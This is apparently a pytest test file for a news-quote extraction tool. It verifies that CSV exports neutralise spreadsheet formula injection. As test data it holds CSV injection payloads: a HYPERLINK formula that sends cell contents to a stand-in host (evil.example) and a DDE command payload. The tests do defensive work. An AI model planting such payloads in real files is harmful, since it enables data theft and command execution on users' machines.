"""Issue 14: CSV cells that a spreadsheet would run as a formula are neutralised, in both the
``sayso export --format csv`` file and the explorer's ``/statements.csv`` download."""

from __future__ import annotations

import csv
import io
import json
import warnings
from pathlib import Path

import pytest
from starlette.exceptions import StarletteDeprecationWarning

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)  # see test_web.py
    from starlette.testclient import TestClient

from sayso.models import Article, Attribution, Extraction, Span, Speaker, speaker_id
from sayso.store import Store
from sayso.store.export import FORMULA_STARTS, spreadsheet_safe
from sayso.web import create_app

#: the payloads, each in a different column of the one statement below
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"
SPEAKER = "-2+3 Committee"
CONTENT = "+1 for the motion"
SOURCE = "\tTabbed Source"


def _db(path: Path) -> Path:
    text = f"{TITLE}\n{SOURCE} said {CONTENT}, and \rcarriage went on."
    src_at = text.index(SOURCE)
    cue_at = text.index("said")
    content_at = text.index(CONTENT)
    cr_at = text.index("\rcarriage")
    sp = Speaker(speaker_id(SPEAKER), SPEAKER, "group")
    ex = Extraction(
        Article(text, title=TITLE, source=OUTLET, published="2024-02-02", url="=cmd"),
        (sp,),
        (
            Attribution(
                "a1",
                Span.of(text, cue_at, cue_at + 4),
                (Span.of(text, content_at, content_at + len(CONTENT)),),
                "indirect",
                Span.of(text, src_at, src_at + len(SOURCE)),
                sp.id,
                extractor="test.hand.v1",
            ),
            Attribution(
                "a2",
                Span.of(text, cue_at, cue_at + 4),
                (Span.of(text, cr_at, cr_at + len("\rcarriage")),),
                "indirect",
                None,
                None,
                extractor="test.hand.v1",
            ),
        ),
    )
    with Store(path) as st:
        assert st.write(ex)
    return path


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _db(tmp_path_factory.mktemp("csv") / "formula.db")


def _check(rows: list[dict[str, str]]) -> None:
    assert len(rows) == 2
    first, second = rows
    assert first["title"] == "'" + TITLE
    assert first["outlet"] == "'" + OUTLET
    assert first["speaker_name"] == "'" + SPEAKER
    assert first["content_text"] == "'" + CONTENT
    assert first["source_text"] == "'" + SOURCE
    assert first["url"] == "'=cmd"
    assert second["content_text"] == "'\rcarriage"
    for row in rows:  # no cell a spreadsheet would run is left
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    # ordinary cells are untouched
    assert first["cue_text"] == "said" and first["kind"] == "indirect"
    assert first["published"] == "2024-02-02"


def test_export_csv_neutralises_formulas(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    with Store(db, read_only=True) as st:
        assert st.export("csv", out) == 2
    _check(list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))))
    # JSON lines keep the text exactly
    jl = tmp_path / "out.jsonl"
    with Store(db, read_only=True) as st:
        st.export("jsonl", jl)
    record = json.loads(jl.read_text(encoding="utf-8"))
    assert record["article"]["title"] == TITLE and record["article"]["source"] == OUTLET


def test_web_csv_neutralises_formulas(db: Path) -> None:
    r = TestClient(create_app(db)).get("/statements.csv")
    assert r.status_code == 200
    _check(list(csv.DictReader(io.StringIO(r.text, newline=""))))
    # the JSON twin keeps the text exactly
    rows = TestClient(create_app(db)).get("/statements.json").json()["rows"]
    assert {r["content_text"] for r in rows} == {CONTENT, "\rcarriage"}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (" =1", " =1"),
        (-3, -3),
        (0.5, 0.5),
    ],
)
def test_spreadsheet_safe(value: object, safe: object) -> None:
    assert spreadsheet_safe(value) == safe
